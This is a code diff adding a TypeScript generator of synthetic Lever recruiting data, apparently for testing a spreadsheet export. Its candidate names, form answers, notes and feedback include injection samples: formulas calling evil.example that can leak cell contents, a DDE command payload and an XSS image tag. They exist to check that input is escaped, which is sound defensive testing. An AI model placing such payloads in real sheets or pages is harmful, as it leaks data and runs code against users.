@@ -1,0 +1,502 @@
+import { Rng } from './random';
+import { CHILD_KINDS, type ChildKind, type Rec, type SandboxData, type Stage } from './types';
+
+const DAY = 86_400_000;
+
+export const HIRE = 'https://hire.sandbox.lever.co';
+
+/** Applicant-written strings that must reach the sheet as plain text, never as formulas or HTML. */
+export const HOSTILE_NAMES = [
+  '=HYPERLINK("https://evil.example/?x="&A1,"click")',
+  '+1-555-0100',
+  '@SUM(A1:A9)',
+  '-2+3',
+  '=1+1',
+  'Dwayne "The Rock" Johnson',
+  'Comma, Person',
+  'Multi\nLine Name',
+  'Rocket 🚀 Emoji',
+  '<img src=x onerror=alert(1)>',
+  '\tTabbed Name',
+  'Trailing Spaces   ',
+  "'Quoted Start",
+  'TRUE',
+  '0012345',
+  'Garbled Ã©Ã¨ Name',
+];
+
+const FIRST = ['Dana', 'Ravi', 'Mei', 'Lucas', 'Amara', 'Jonas', 'Sofia', 'Kwame', 'Yuki', 'Elena', 'Omar', 'Priya', 'Liam', 'Zara', 'Mateo', 'Ines'];
+const LAST = ['Okafor', 'Patel', 'Chen', 'Silva', 'Mensah', 'Berg', 'Rossi', 'Asante', 'Tanaka', 'Novak', 'Haddad', 'Iyer', 'Walsh', 'Ahmed', 'Lopez', 'Costa'];
+const COMPANIES = ['Acme Corp', 'Globex', 'Initech', 'Umbrella', 'Hooli', 'Stark Industries', 'Wayne Enterprises', 'State University'];
+const CITIES = ['Lisbon', 'Berlin', 'New York', 'San Francisco', 'London', 'Toronto', 'Remote', ''];
+const TEAMS = ['Engineering', 'Sales', 'Design', 'People', 'Finance'];
+const TITLES = ['Backend Engineer', 'Account Executive', 'Product Designer', 'Recruiter', 'Financial Analyst', 'Data Scientist', 'Support Lead'];
+const SOURCES = ['LinkedIn', 'Referral', 'Company website', 'AngelList', 'Indeed', 'Agency'];
+const ORIGINS = ['agency', 'applied', 'internal', 'referred', 'sourced', 'university'];
+const OFFER_STATUS = ['draft', 'approval-sent', 'approved', 'sent', 'sent-manually', 'opened', 'denied', 'signed'];
+
+export const STAGES: Stage[] = [
+  { id: 'lead-new', text: 'New lead', pipeline: 'lead', rank: 0, hasInterview: false },
+  { id: 'lead-reached-out', text: 'Reached out', pipeline: 'lead', rank: 10, hasInterview: false },
+  { id: 'lead-responded', text: 'Responded', pipeline: 'lead', rank: 20, hasInterview: false },
+  { id: 'applicant-new', text: 'New applicant', pipeline: 'applicant', rank: 100, hasInterview: false },
+  { id: '8f1c2d3e-0a1b-4c2d-9e3f-000000000001', text: 'Recruiter screen', pipeline: 'screen', rank: 200, hasInterview: true },
+  { id: '8f1c2d3e-0a1b-4c2d-9e3f-000000000002', text: 'Phone interview', pipeline: 'screen', rank: 230.5, hasInterview: true },
+  { id: '8f1c2d3e-0a1b-4c2d-9e3f-000000000003', text: 'On-site interview', pipeline: 'onsite', rank: 300, hasInterview: true },
+  { id: '8f1c2d3e-0a1b-4c2d-9e3f-000000000004', text: 'Reference check', pipeline: 'onsite', rank: 350, hasInterview: false },
+  { id: 'offer', text: 'Offer', pipeline: 'offer', rank: 400, hasInterview: false },
+];
+
+export interface SeedOptions {
+  seed: number;
+  opportunities: number;
+  /** "Now" of the generated account: records are created before it. */
+  now: number;
+}
+
+/** Generates a whole account deterministically from a seed. */
+export function seedData(opts: SeedOptions): SandboxData {
+  const rng = new Rng(opts.seed);
+  const g = new Generator(rng, opts.now);
+  return g.build(opts.opportunities);
+}
+
+/** Builds records; also used by the activity simulator to create new ones. */
+export class Generator {
+  data!: SandboxData;
+  private hostileIndex = 0;
+  private bigNoteDone = false;
+
+  constructor(
+    readonly rng: Rng,
+    private readonly now: number,
+  ) {}
+
+  build(count: number): SandboxData {
+    const rng = this.rng;
+    const users = Array.from({ length: 12 + Math.ceil(count / 200) }, (_, i) => this.user(i));
+    const archiveReasons = [
+      { id: rng.uuid(), text: 'Hired', status: 'active', type: 'hired' },
+      ...['Underqualified', 'Withdrew', 'Position filled', 'Timing', 'No response', 'Culture add', 'Compensation'].map((text, i) => ({
+        id: rng.uuid(),
+        text,
+        status: i === 6 ? 'inactive' : 'active',
+        type: 'non-hired',
+      })),
+    ];
+    this.data = {
+      users,
+      stages: STAGES,
+      archiveReasons,
+      postings: [],
+      requisitions: [],
+      requisitionFields: [
+        { id: 'cost_center', text: 'Cost center', type: 'text', isRequired: true },
+        { id: 'level', text: 'Level', type: 'dropdown', isRequired: false, options: [{ id: 'l1', text: 'L1' }, { id: 'l2', text: 'L2' }] },
+        { id: 'budget', text: 'Budget', type: 'number', isRequired: false },
+      ],
+      feedbackTemplates: [],
+      formTemplates: [],
+      opportunities: new Map(),
+      deleted: [],
+      contacts: new Map(),
+      children: Object.fromEntries(CHILD_KINDS.map((k) => [k, new Map<string, Rec[]>()])) as SandboxData['children'],
+    };
+    this.data.feedbackTemplates = [this.feedbackTemplate('Interview scorecard'), this.feedbackTemplate('Phone screen')];
+    this.data.formTemplates = [{ id: rng.uuid(), text: 'Candidate details', instructions: '', group: null, secretByDefault: false, fields: this.formFields(false), createdAt: this.now - 700 * DAY, updatedAt: this.now - 300 * DAY }];
+    this.data.postings = Array.from({ length: Math.max(5, Math.ceil(count / 40)) }, () => this.posting());
+    this.data.requisitions = this.data.postings.slice(0, 4).map((p) => this.requisition(p));
+    for (let i = 0; i < count; i++) {
+      const created = this.now - rng.int(1, 720) * DAY + rng.int(0, DAY - 1);
+      this.addOpportunity(created, this.now);
+    }
+    // A couple of opportunities were deleted before the sandbox started.
+    for (let i = 0; i < Math.min(2, count); i++) {
+      const opp = this.opportunity(this.now - 800 * DAY, this.now - 400 * DAY);
+      this.data.deleted.push({ ...opp, deletedBy: users[0].id, deletedAt: this.now - rng.int(2, 30) * DAY });
+    }
+    return this.data;
+  }
+
+  private user(i: number): Rec {
+    const name = `${FIRST[i % FIRST.length]} ${LAST[(i * 7) % LAST.length]}`;
+    const email = `${name.toLowerCase().replace(/\s+/g, '.')}${i}@company.example`;
+    return {
+      id: this.rng.uuid(),
+      name,
+      username: email.split('@')[0],
+      email,
+      accessRole: i === 0 ? 'super admin' : this.rng.pick(['admin', 'team member', 'limited team member', 'interviewer']),
+      photo: null,
+      createdAt: this.now - (900 - i) * DAY,
+      deactivatedAt: i % 9 === 8 ? this.now - 30 * DAY : null,
+      externalDirectoryId: null,
+      linkedContactIds: null,
+      jobTitle: this.rng.pick(['Recruiter', 'Engineering Manager', 'Designer', null]),
+      managerId: null,
+    };
+  }
+
+  private activeUser(): Rec {
+    return this.rng.pick(this.data.users.filter((u) => u.deactivatedAt === null));
+  }
+
+  private feedbackTemplate(text: string): Rec {
+    return {
+      id: this.rng.uuid(),
+      text,
+      group: null,
+      instructions: 'Rate the candidate',
+      fields: this.feedbackFields(false),
+      createdAt: this.now - 800 * DAY,
+      updatedAt: this.now - 100 * DAY,
+      stage: null,
+    };
+  }
+
+  private posting(): Rec {
+    const rng = this.rng;
+    const title = rng.pick(TITLES);
+    const team = rng.pick(TEAMS);
+    const state = rng.pick(['published', 'published', 'internal', 'closed', 'draft', 'pending']);
+    const id = rng.uuid();
+    const created = this.now - rng.int(100, 800) * DAY;
+    const owner = this.activeUser().id;
+    const posting: Rec = {
+      id,
+      text: title,
+      state,
+      distributionChannels: state === 'draft' ? null : rng.pick([['public'], ['internal'], ['public', 'internal']]),
+      confidentiality: rng.chance(0.1) ? 'confidential' : 'non-confidential',
+      user: owner,
+      owner,
+      hiringManager: rng.chance(0.8) ? this.activeUser().id : null,
+      followers: [owner],
+      categories: { commitment: 'Full-time', department: team, level: null, location: rng.pick(CITIES.filter(Boolean)), team, allLocations: [rng.pick(CITIES.filter(Boolean))] },
+      tags: [team],
+      content: { description: `We are hiring a ${title}.`, descriptionHtml: `<p>We are hiring a ${title}.</p>`, lists: [{ text: 'Requirements', content: '<li>Curiosity</li>' }], closing: '', closingHtml: '' },
+      country: rng.pick(['PT', 'DE', 'US', 'GB', null]),
+      reqCode: '',
+      requisitionCodes: [],
+      urls: state === 'draft' || state === 'closed' ? null : { list: 'https://jobs.sandbox.lever.co/acme', show: `https://jobs.sandbox.lever.co/acme/${id}`, apply: `https://jobs.sandbox.lever.co/acme/${id}/apply` },
+      createdAt: created,
+      updatedAt: created + rng.int(0, 50) * DAY,
+      workplaceType: rng.pick(['unspecified', 'onsite', 'remote', 'hybrid']),
+    };
+    // salaryRange is omitted, not null, when unset.
+    if (rng.chance(0.5)) posting.salaryRange = { min: 50000, max: 90000, currency: 'EUR', interval: 'per-year-salary' };
+    return posting;
+  }
+
+  private requisition(posting: Rec): Rec {
+    const rng = this.rng;
+    const created = posting.createdAt as number;
+    return {
+      id: rng.uuid(),
+      requisitionCode: `REQ-${rng.int(100, 999)}`,
+      name: posting.text,
+      status: rng.pick(['open', 'onHold', 'closed', 'draft']),
+      confidentiality: 'non-confidential',
+      createdAt: created,
+      updatedAt: created + DAY,
+      closedAt: null,
+      headcountTotal: rng.chance(0.2) ? 'unlimited' : rng.int(1, 4),
+      headcountHired: 0,
+      headcountInfinite: false,
+      backfill: rng.chance(0.3),
+      creator: posting.owner,
+      owner: posting.owner,
+      hiringManager: posting.hiringManager,
+      internalNotes: null,
+      compensationBand: { min: 50000, max: 90000, currency: 'EUR', interval: 'per-year-salary' },
+      employmentStatus: 'full-time',
+      location: (posting.categories as Rec).location,
+      team: (posting.categories as Rec).team,
+      department: (posting.categories as Rec).department,
+      postings: [posting.id],
+      offerIds: [],
+      timeToFillStartAt: created,
+      timeToFillEndAt: null,
+      customFields: { cost_center: `CC-${rng.int(10, 99)}`, level: 'l2', budget: rng.int(50, 150) * 1000 },
+      approval: null,
+    };
+  }
+
+  private personName(): string {
+    if (this.rng.chance(0.08)) return HOSTILE_NAMES[this.hostileIndex++ % HOSTILE_NAMES.length];
+    return `${this.rng.pick(FIRST)} ${this.rng.pick(LAST)}`;
+  }
+
+  /** Builds an opportunity created at `created`, last touched no later than `latest`. */
+  opportunity(created: number, latest: number): Rec {
+    const rng = this.rng;
+    const id = rng.uuid();
+    const name = this.personName();
+    const stageIdx = rng.int(0, STAGES.length - 1);
+    const posting = rng.chance(0.85) ? rng.pick(this.data.postings) : null;
+    const owner = this.activeUser().id;
+    const origin = rng.pick(ORIGINS);
+    const advances = Math.min(stageIdx, rng.int(0, 4));
+    let t = created;
+    const stageChanges: Rec[] = [];
+    for (let i = stageIdx - advances; i <= stageIdx; i++) {
+      const change: Rec = { toStageId: STAGES[i].id, toStageIndex: i, updatedAt: t };
+      if (rng.chance(0.6)) change.userId = owner; // Often absent in real data.
+      stageChanges.push(change);
+      t = Math.min(latest, t + rng.int(1, 10) * DAY);
+    }
+    const lastAdvancedAt = stageChanges[stageChanges.length - 1].updatedAt as number;
+    const archived = rng.chance(0.3) ? { reason: rng.pick(this.data.archiveReasons).id, archivedAt: Math.min(latest, lastAdvancedAt + DAY) } : null;
+    const email = `${name.replace(/[^A-Za-z]+/g, '.').replace(/^\.|\.$/g, '').toLowerCase() || 'candidate'}@mail.example`;
+    const contact = rng.uuid();
+    const lastInteractionAt = Math.min(latest, lastAdvancedAt + rng.int(0, 5) * DAY);
+    // Most old records never had updatedAt set (seen in a real sandbox: about 96%).
+    const legacy = created < this.now - 200 * DAY && rng.chance(0.7);
+    const opp: Rec = {
+      id,
+      name,
+      contact,
+      headline: rng.chance(0.2) ? '' : rng.some(COMPANIES, 2).join(', '),
+      stage: STAGES[stageIdx].id,
+      confidentiality: rng.chance(0.05) ? 'confidential' : 'non-confidential',
+      location: rng.pick(CITIES),
+      phones: rng.chance(0.8) ? [{ type: rng.pick(['mobile', 'home', null]), value: rng.chance(0.5) ? `55555${rng.int(10000, 99999)}` : `+351 9${rng.int(10, 99)} ${rng.int(100, 999)} ${rng.int(100, 999)}` }] : [],
+      emails: [email],
+      links: rng.chance(0.5) ? [`https://www.linkedin.com/in/${id.slice(0, 8)}`] : [],
+      archived,
+      tags: posting ? [posting.text as string, ((posting.categories as Rec).team as string)] : rng.some(['Python', 'Remote', 'Senior'], 2),
+      sources: rng.some(SOURCES, 2),
+      stageChanges,
+      origin,
+      sourcedBy: origin === 'sourced' ? owner : null,
+      owner,
+      followers: [owner],
+      applications: [],
+      createdAt: created,
+      updatedAt: legacy ? null : Math.max(lastInteractionAt, archived ? (archived.archivedAt as number) : 0),
+      lastInteractionAt,
+      lastAdvancedAt,
+      snoozedUntil: null,
+      urls: { list: `${HIRE}/candidates`, show: `${HIRE}/candidates/${id}` },
+      isAnonymized: false,
+      dataProtection: rng.chance(0.3) ? { store: { allowed: true, expiresAt: created + 365 * DAY }, contact: { allowed: rng.chance(0.5), expiresAt: null } } : null,
+    };
+    if (posting) {
+      opp.opportunityLocation = (posting.categories as Rec).location;
+      opp.applications = [this.application(opp, posting, origin)];
+    }
+    return opp;
+  }
+
+  private application(opp: Rec, posting: Rec, origin: string): Rec {
+    const rng = this.rng;
+    return {
+      id: rng.uuid(),
+      type: origin === 'applied' ? 'posting' : origin === 'referred' ? 'referral' : 'user',
+      opportunityId: opp.id,
+      candidateId: opp.id,
+      posting: posting.id,
+      postingHiringManager: posting.hiringManager,
+      postingOwner: posting.owner,
+      name: opp.name,
+      company: rng.chance(0.5) ? rng.pick(COMPANIES) : null,
+      email: (opp.emails as string[])[0],
+      phone: (opp.phones as Rec[])[0] ?? null,
+      links: opp.links,
+      comments: rng.chance(0.3) ? 'I would love to join, see my portfolio.' : null,
+      user: origin === 'applied' ? null : opp.owner,
+      customQuestions: rng.chance(0.5) ? [{ id: rng.uuid(), type: 'form', text: 'Application questions', fields: this.formFields(true) }] : [],
+      createdAt: opp.createdAt,
+      archived: opp.archived,
+      requisitionForHire: null,
+      ipAddress: rng.chance(0.5) ? `203.0.113.${rng.int(1, 254)}` : null,
+      referer: null,
+      userAgent: null,
+      acceptLanguage: 'en-US',
+      timezone: 'Europe/Lisbon',
+    };
+  }
+
+  private formFields(withValues: boolean): Rec[] {
+    const rng = this.rng;
+    const f = (type: string, text: string, value: unknown, extra: Rec = {}): Rec => ({
+      id: rng.uuid(), type, text, description: '', required: false, ...extra, ...(withValues ? { value } : {}),
+    });
+    return [
+      f('text', 'Current company', rng.pick(COMPANIES)),
+      f('textarea', 'Why us?', rng.chance(0.1) ? '=IMPORTDATA("https://evil.example")' : 'Mission and people.'),
+      f('dropdown', 'Work authorization', 'Yes', { options: [{ text: 'Yes' }, { text: 'No' }] }),
+      f('multiple-select', 'Languages', ['English', 'Portuguese'], { options: [{ text: 'English' }, { text: 'Portuguese' }, { text: 'German' }] }),
+      f('yes-no', 'Open to relocate', rng.pick(['yes', 'no', null])),
+      f('date', 'Earliest start', this.now + rng.int(10, 90) * DAY),
+      f('currency', 'Salary expectation', rng.int(40, 120) * 1000, { currency: 'EUR' }),
+    ];
+  }
+
+  private feedbackFields(withValues: boolean): Rec[] {
+    const rng = this.rng;
+    const v = (x: unknown) => (withValues ? { value: x } : {});
+    return [
+      { id: rng.uuid(), type: 'score-system', text: 'Overall rating', required: true, options: ['Strong no hire', 'No hire', 'Hire', 'Strong hire'].map((t) => ({ text: t })), ...v(rng.pick(['Strong no hire', 'No hire', 'Hire', 'Strong hire'])) },
+      { id: rng.uuid(), type: 'score', text: 'Communication', required: false, ...v(rng.pick([1, 2, 3, 4, null])) },
+      { id: rng.uuid(), type: 'scorecard', text: 'Skills', required: false, scores: [{ text: 'Coding' }, { text: 'Design' }], ...v([{ score: rng.int(1, 4), comment: '' }, { score: rng.int(1, 4), comment: 'ok' }]) },
+      { id: rng.uuid(), type: 'textarea', text: 'Notes', required: false, ...v('Solid answers; =cmd|calc!A0 typed by the interviewer.') },
+    ];
+  }
+
+  /** Adds an opportunity with its children; returns it. */
+  addOpportunity(created: number, latest: number): Rec {
+    const opp = this.opportunity(created, latest);
+    this.data.opportunities.set(opp.id as string, opp);
+    this.data.contacts.set(opp.contact as string, { id: opp.contact, name: opp.name, headline: opp.headline, isAnonymized: false, location: { name: opp.location }, emails: opp.emails, phones: opp.phones });
+    this.addChildren(opp, latest);
+    return opp;
+  }
+
+  private push(kind: ChildKind, oppId: string, rec: Rec): void {
+    const map = this.data.children[kind];
+    const list = map.get(oppId) ?? [];
+    list.push(rec);
+    map.set(oppId, list);
+  }
+
+  private addChildren(opp: Rec, latest: number): void {
+    const rng = this.rng;
+    const id = opp.id as string;
+    const stageIdx = STAGES.findIndex((s) => s.id === opp.stage);
+    const interviewsCount = stageIdx >= 4 ? rng.int(1, 4) : 0;
+    for (let i = 0; i < interviewsCount; i++) this.addInterview(opp, Math.min(latest, (opp.createdAt as number) + (i + 1) * DAY));
+    for (let i = rng.int(0, 2); i > 0; i--) this.addNote(opp, Math.min(latest, (opp.createdAt as number) + i * 3600_000));
+    if (stageIdx >= STAGES.length - 1 || (opp.archived && rng.chance(0.1))) this.addOffer(opp, Math.min(latest, opp.lastAdvancedAt as number));
+    if (rng.chance(0.7)) this.push('resumes', id, this.resume(opp));
+    if (rng.chance(0.3)) this.push('files', id, { id: rng.uuid(), downloadUrl: `https://api.sandbox.lever.co/v1/opportunities/${id}/files/x/download`, ext: '.pdf', name: 'portfolio.pdf', uploadedAt: opp.createdAt, status: 'processed', size: rng.int(1000, 900000) });
+    if (rng.chance(0.4)) this.push('forms', id, { id: rng.uuid(), type: 'form', text: 'Candidate details', instructions: '', baseTemplateId: this.data.formTemplates[0].id, fields: this.formFields(true), user: opp.owner, stage: opp.stage, createdAt: opp.createdAt, completedAt: opp.createdAt, deletedAt: rng.chance(0.05) ? latest : null });
+    if (opp.origin === 'referred') this.push('referrals', id, { id: rng.uuid(), type: 'referral', text: 'Referral', instructions: '', fields: this.formFields(true).slice(0, 2), baseTemplateId: rng.uuid(), user: opp.owner, referrer: this.activeUser().id, stage: opp.stage, createdAt: opp.createdAt, completedAt: opp.createdAt });
+  }
+
+  addInterview(opp: Rec, at: number): Rec {
+    const rng = this.rng;
+    const id = opp.id as string;
+    const interviewer = this.activeUser();
+    const template = rng.pick(this.data.feedbackTemplates);
+    const panelId = rng.uuid();
+    const interview: Rec = {
+      id: rng.uuid(),
+      panel: panelId,
+      subject: `${rng.pick(['Technical', 'Culture', 'Hiring manager'])} interview with ${opp.name}`,
+      note: rng.chance(0.2) ? '+ bring laptop' : '',
+      interviewers: [{ id: interviewer.id, name: interviewer.name, email: interviewer.email, feedbackTemplate: template.id }],
+      timezone: 'Europe/Lisbon',
+      createdAt: at,
+      date: at + 2 * DAY,
+      duration: rng.pick([30, 45, 60]),
+      location: rng.pick(['Zoom', 'Office 3B', '']),
+      feedbackTemplate: template.id,
+      feedbackForms: [],
+      feedbackReminder: rng.pick(['once', 'daily', 'frequently', 'none']),
+      user: opp.owner,
+      stage: opp.stage,
+      canceledAt: rng.chance(0.1) ? at + DAY : null,
+      postings: ((opp.applications as Rec[]) ?? []).map((a) => a.posting),
+      gcalEventUrl: null,
+      opportunityId: id,
+    };
+    this.push('interviews', id, interview);
+    this.push('panels', id, {
+      id: panelId, applications: ((opp.applications as Rec[]) ?? []).map((a) => a.id), canceledAt: interview.canceledAt, createdAt: at,
+      start: interview.date, end: (interview.date as number) + (interview.duration as number) * 60_000, timezone: 'Europe/Lisbon',
+      feedbackReminder: interview.feedbackReminder, note: '', stage: opp.stage, user: opp.owner, externallyManaged: false, externalUrl: null,
+      interviews: [{ id: interview.id, subject: interview.subject, note: interview.note, date: interview.date, duration: interview.duration, location: interview.location, feedbackReminder: interview.feedbackReminder, feedbackTemplate: template.id, interviewers: [{ ...(interview.interviewers as Rec[])[0], responseStatus: 'accepted' }] }],
+    });
+    if (rng.chance(0.7)) {
+      const fb = this.feedback(opp, interview, interviewer, template, at + 3 * DAY);
+      (interview.feedbackForms as string[]).push(fb.id as string);
+      this.push('feedback', id, fb);
+    }
+    return interview;
+  }
+
+  feedback(opp: Rec, interview: Rec | null, author: Rec, template: Rec, at: number): Rec {
+    return {
+      id: this.rng.uuid(),
+      type: 'interview',
+      text: template.text,
+      instructions: template.instructions,
+      fields: this.feedbackFields(true),
+      baseTemplateId: template.id,
+      interview: interview?.id ?? null,
+      panel: interview?.panel ?? null,
+      user: author.id,
+      createdAt: at,
+      completedAt: at,
+      updatedAt: at,
+      // Soft-deleted feedback is still listed (reference §6.6).
+      deletedAt: this.rng.chance(0.05) ? at + DAY : null,
+      opportunityId: opp.id,
+    };
+  }
+
+  addNote(opp: Rec, at: number): Rec {
+    const rng = this.rng;
+    let value = rng.pick(['Great call, follow up Friday', '=HYPERLINK("https://evil.example","notes")', 'Asked about visa, "maybe" later, see notes', 'Line one\nLine two']);
+    if (!this.bigNoteDone) {
+      // One note past the 50,000-character sheet cell limit.
+      value = 'Long interview transcript. '.repeat(2300);
+      this.bigNoteDone = true;
+    }
+    const note: Rec = {
+      id: rng.uuid(),
+      text: 'Note',
+      fields: [{ type: 'note', text: 'Comment', value, createdAt: at, user: opp.owner, score: rng.pick([null, 1, 2, 3, 4]), stage: opp.stage }],
+      user: opp.owner,
+      secret: rng.chance(0.1),
+      completedAt: at,
+      createdAt: at,
+      deletedAt: null,
+    };
+    this.push('notes', opp.id as string, note);
+    return note;
+  }
+
+  addOffer(opp: Rec, at: number): Rec {
+    const rng = this.rng;
+    const status = rng.pick(OFFER_STATUS);
+    const app = ((opp.applications as Rec[]) ?? [])[0];
+    const offer: Rec = {
+      id: rng.uuid(),
+      createdAt: at,
+      status,
+      creator: opp.owner,
+      fields: [
+        { text: 'Job title', identifier: 'job_title', value: app ? this.data.postings.find((p) => p.id === app.posting)?.text ?? 'Engineer' : 'Engineer' },
+        { text: 'Candidate name', identifier: 'candidate_name', value: opp.name },
+        // Lever mixes numbers and numeric strings here.
+        { text: 'Salary', identifier: 'salary_amount', value: rng.chance(0.5) ? rng.int(50, 120) * 1000 : String(rng.int(50, 120) * 1000) },
+        { text: 'Currency', identifier: 'compensation_currency', value: 'EUR' },
+        { text: 'Start date', identifier: 'anticipated_start_date', value: at + 30 * DAY },
+        { text: 'Signing bonus', identifier: 'custom_signing_bonus', value: null },
+      ],
+      signatures: { candidate: { role: 'candidate', name: opp.name, email: (opp.emails as string[])[0], firstOpenedAt: null, lastOpenedAt: null, signedAt: status === 'signed' ? at + 2 * DAY : null, signed: status === 'signed' } },
+      approved: status === 'draft' ? null : rng.pick([true, 'true', false]),
+      approvedAt: status === 'draft' ? null : at + DAY,
+      sentAt: ['sent', 'opened', 'signed'].includes(status) ? at + DAY : null,
+      sentDocument: null,
+      signedDocument: status === 'signed' ? { fileName: 'offer-signed.pdf', uploadedAt: at + 2 * DAY, downloadUrl: 'https://api.sandbox.lever.co/v1/x' } : null,
+      posting: app?.posting ?? null,
+    };
+    this.push('offers', opp.id as string, offer);
+    return offer;
+  }
+
+  private resume(opp: Rec): Rec {
+    return {
+      id: this.rng.uuid(),
+      createdAt: opp.createdAt,
+      file: { name: 'cv.pdf', ext: this.rng.pick(['.pdf', 'pdf']), downloadUrl: `https://api.sandbox.lever.co/v1/opportunities/${opp.id}/resumes/x/download`, uploadedAt: opp.createdAt, status: this.rng.pick(['processed', 'processing', null]), size: this.rng.int(10000, 500000) },
+      parsedData: {
+        positions: [{ org: this.rng.pick(COMPANIES), title: 'Engineer', summary: '', location: 'Porto', start: { year: 2019, month: 3 }, end: { year: 2023, month: null } }],
+        schools: [{ org: 'State University', degree: 'BSc', field: 'Computer Science', summary: '', start: { year: 2014 }, end: { year: 2018, month: 6 } }],
+      },
+    };
+  }
+}
